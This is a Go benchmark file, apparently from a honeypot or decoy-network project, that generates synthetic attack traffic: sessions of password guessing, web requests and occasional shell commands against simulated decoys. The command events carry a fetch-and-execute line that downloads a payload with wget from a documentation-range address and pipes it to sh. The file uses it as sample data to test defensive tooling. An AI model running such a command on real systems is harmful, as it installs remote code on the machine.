package bench

import (
	"fmt"
	"math/rand/v2"
	"net/netip"
	"strconv"
	"time"

	"github.com/decnet/decnet/decoys/decoy"
	"github.com/decnet/decnet/pkg/decnet"
)

// traffic makes the events of a fleet under attack: sessions of 200 addresses
// against 50 deckies, most of them guessing passwords, some running commands or
// asking for pages. The same seed gives the same events but for their times.
type traffic struct {
	rng   *rand.Rand
	net   [3]byte // that the addresses are of
	ready []decnet.Event
}

// The networks of those who attack the pipeline, and of those whose events only
// measure a limit (RFC 5737).
var (
	attackerNet = [3]byte{203, 0, 113}
	limitNet    = [3]byte{192, 0, 2}
)

func newTraffic(seed uint64, net [3]byte) *traffic {
	return &traffic{rng: rand.New(rand.NewPCG(seed, 1)), net: net}
}

// next returns an event that happens now.
func (t *traffic) next() *decnet.Event {
	if len(t.ready) == 0 {
		t.session()
	}
	e := t.ready[0]
	t.ready = t.ready[1:]
	e.Time = time.Now().UTC()
	return &e
}

func (t *traffic) session() {
	source := netip.AddrFrom4([4]byte{t.net[0], t.net[1], t.net[2], byte(t.rng.IntN(200))}) //nolint:gosec // below 200
	base := decnet.Event{
		Decky: fmt.Sprintf("bench-%02d", t.rng.IntN(50)), Service: benchService, Source: source, Attacker: decnet.AttackerIDOf(source),
		SourcePort: uint16(32768 + t.rng.IntN(28000)), Session: decoy.NewSession(time.Now()), //nolint:gosec // below 65536
	}
	t.add(base, decnet.KindConnect, nil, "")
	kind := decnet.KindAuthAttempt
	if t.rng.IntN(10) == 0 {
		kind = decnet.KindRequest
	}
	for range 1 + t.rng.IntN(4) {
		t.add(base, kind, t.fields(kind), "")
	}
	if t.rng.IntN(10) == 0 {
		t.add(base, decnet.KindCommand, t.fields(decnet.KindCommand), "")
	}
	t.add(base, decnet.KindDisconnect, map[string]string{
		decnet.FieldDuration: strconv.Itoa(t.rng.IntN(5000)),
		decnet.FieldBytesIn:  strconv.Itoa(t.rng.IntN(9000)), decnet.FieldBytesOut: strconv.Itoa(t.rng.IntN(9000)),
	}, "the connection ended")
}

func (t *traffic) add(e decnet.Event, kind string, fields map[string]string, message string) {
	e.Kind, e.Fields, e.Message = kind, fields, message
	t.ready = append(t.ready, e)
}

func (t *traffic) fields(kind string) map[string]string {
	switch kind {
	case decnet.KindAuthAttempt:
		return map[string]string{
			decnet.FieldPrincipal: []string{"root", "admin", "pi", "oracle"}[t.rng.IntN(4)], decnet.FieldSecret: fmt.Sprintf("pass%03d", t.rng.IntN(500)),
			decnet.FieldSecretB64: "cGFzc3dvcmQ=", decnet.FieldSecretKind: string(decnet.SecretPlaintext), decnet.FieldAccepted: "false",
		}
	case decnet.KindCommand:
		return map[string]string{decnet.FieldCommand: "cd /tmp && wget http://198.51.100.7/" + strconv.Itoa(t.rng.IntN(99)) + "/x86 -O- | sh"}
	default:
		return map[string]string{"method": "GET", "target": "/index.php?id=" + strconv.Itoa(t.rng.IntN(1000)), "user_agent": "Mozilla/5.0 zgrab/0.x"}
	}
}

// benchService is what events of benchmarks come from.
const benchService = "bench"
